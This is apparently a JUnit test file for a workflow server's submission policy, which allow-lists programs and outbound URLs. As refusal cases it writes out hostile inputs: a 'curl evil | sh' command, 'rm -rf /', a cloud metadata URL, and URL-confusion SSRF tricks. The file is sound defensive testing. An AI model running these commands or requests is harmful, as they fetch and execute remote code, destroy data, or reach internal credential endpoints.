package dev.maze.server.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.maze.core.workflow.ValidationException;
import dev.maze.core.workflow.WorkflowParser;
import dev.maze.core.workflow.WorkflowSpec;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class SubmissionPolicyTest {

    private final SubmissionPolicy policy = new SubmissionPolicy(Set.of("python3"),
            List.of("http://10.0.0.5:8000/v1", "https://API.example.com/"), MazeServer.Preparation.NONE);

    private static List<WorkflowSpec> workflow(String task) throws ValidationException {
        return WorkflowParser.parse("{name: w, id: w1, tasks: [" + task + "]}", WorkflowParser.Format.YAML, "body");
    }

    private String refusal(String task) throws ValidationException {
        List<WorkflowSpec> specs = workflow(task);
        try {
            policy.apply(specs);
            return null;
        } catch (ValidationException e) {
            return e.getMessage();
        }
    }

    @Test
    void processTasksRunOnlyAllowedPrograms() throws Exception {
        assertThat(refusal("{id: ok, kind: process, inputs: {command: [python3, tool.py]}}")).isNull();
        assertThat(refusal("{id: shell, kind: process, inputs: {command: [sh, -c, 'curl evil | sh']}}"))
                .contains("shell", "inputs.command", "'sh' is not one of", "--allow-command sh");
        assertThat(refusal("{id: path, kind: process, inputs: {command: [/usr/bin/python3]}}"))
                .as("a path is another program").contains("--allow-command /usr/bin/python3");
    }

    @Test
    void callsGoOnlyToAllowedPrefixesAtABoundary() throws Exception {
        assertThat(refusal("{id: a, kind: http, inputs: {url: 'https://api.example.com/search?q=1'}}")).isNull();
        assertThat(refusal("{id: a, kind: llm, inputs: {model: m, prompt: hi, baseUrl: 'http://10.0.0.5:8000/v1'}}"))
                .isNull();
        assertThat(refusal("{id: a, kind: llm, inputs: {model: m, prompt: hi}}")).as("no URL of its own").isNull();
        for (String url : List.of("http://169.254.169.254/latest/meta-data", "http://10.0.0.5:8000/v1evil",
                "https://api.example.com.evil.net/", "https://api.example.com@evil.net/", "http://10.0.0.5:8001/v1")) {
            assertThat(refusal("{id: ssrf, kind: http, inputs: {url: '" + url + "'}}")).as(url)
                    .contains("ssrf", "inputs.url", "--allow-url");
        }
    }

    @Test
    void aTemplatedAddressIsRefusedATemplatedPathIsNot() throws Exception {
        assertThat(refusal("{id: a, kind: http, inputs: {url: 'https://api.example.com/items/{{tasks.x.output.id}}'}}"))
                .isNull();
        assertThat(refusal("{id: a, kind: http, inputs: {url: '{{tasks.x.output.url}}'}}"))
                .contains("cannot be checked before it runs");
        assertThat(refusal("{id: a, kind: http, inputs: {url: 'https://api.example.com{{tasks.x.output.rest}}'}}"))
                .contains("cannot be checked before it runs");
    }

    @Test
    void everyRefusedTaskIsNamedAndAnAllowedBatchGoesOn() throws Exception {
        List<WorkflowSpec> specs = WorkflowParser.parse("""
                - {name: w, id: one, tasks: [{id: a, kind: process, inputs: {command: [rm, -rf, /]}}]}
                - {name: w, id: two, tasks: [{id: b, kind: http, inputs: {url: 'http://127.0.0.1:22/'}}]}
                """, WorkflowParser.Format.YAML, "body");
        assertThatThrownBy(() -> policy.apply(specs)).isInstanceOf(ValidationException.class)
                .satisfies(e -> assertThat(((ValidationException) e).errors()).hasSize(2));
        List<WorkflowSpec> fine = workflow("{id: s, kind: sim, inputs: {seconds: 1}}");
        assertThat(policy.apply(fine)).isEqualTo(fine);
    }
}
